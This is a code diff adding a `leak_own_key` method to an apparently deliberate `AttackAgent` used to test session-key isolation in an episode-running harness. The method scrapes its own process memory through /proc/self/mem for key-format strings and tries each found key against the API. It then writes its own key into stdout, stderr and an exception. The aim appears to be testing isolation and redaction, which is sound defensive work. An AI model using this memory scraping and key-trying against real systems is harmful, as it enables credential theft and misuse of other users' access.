@@ -359,3 +359,38 @@ class AttackAgent:
     async def allocate(self, data: dict, **kw: Any) -> float:
         blocks = [bytearray(1 << 20) for _ in range(data["mib"])]
         return float(len(blocks))
+
+    async def leak_own_key(self, data: dict, *, api_key: str, **kw: Any) -> float:
+        """Scan what this episode inherited for strings of the session-key format (``data["pattern"]``),
+        use the gateway with its own key and try every other one found, then put its own key into
+        everything that goes back to the zygote: stdout and stderr (the episode log, whose tail the
+        zygote reads) and the exception (the outcome's error). The findings ride in the error."""
+        found, scanned = set(), 0
+        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
+            for line in maps:
+                addresses, perms = line.split()[:2]
+                if not perms.startswith("rw"):  # the heap and anonymous mappings: where strings live
+                    continue
+                lo, hi = (int(a, 16) for a in addresses.split("-"))
+                for start in range(lo, hi, 8 << 20):  # 8 MiB chunks overlapping by 63 bytes (a key is 41)
+                    try:
+                        mem.seek(start)
+                        chunk = mem.read(min(hi, start + (8 << 20) + 63) - start)
+                    except OSError:  # a guard region
+                        break
+                    scanned += len(chunk)
+                    found.update(m.decode() for m in re.findall(data["pattern"].encode(), chunk))
+        answer = await openai.AsyncOpenAI(max_retries=0).chat.completions.create(
+            model="m", messages=[{"role": "user", "content": "hi"}])
+        accepted = []
+        for key in sorted(found - {api_key}):
+            try:
+                await openai.AsyncOpenAI(api_key=key, max_retries=0).models.list()
+                accepted.append(key)
+            except openai.AuthenticationError:
+                pass
+        print(f"stdout: my session key is {api_key}", flush=True)
+        print(f"stderr: my session key is {api_key}", file=sys.stderr, flush=True)
+        report = {"own_found": api_key in found, "others": sorted(found - {api_key}), "others_accepted": accepted,
+                  "scanned_bytes": scanned, "answer": answer.choices[0].message.content}
+        raise RuntimeError(f"leaking my key {api_key} on purpose; scan={json.dumps(report)}=end")
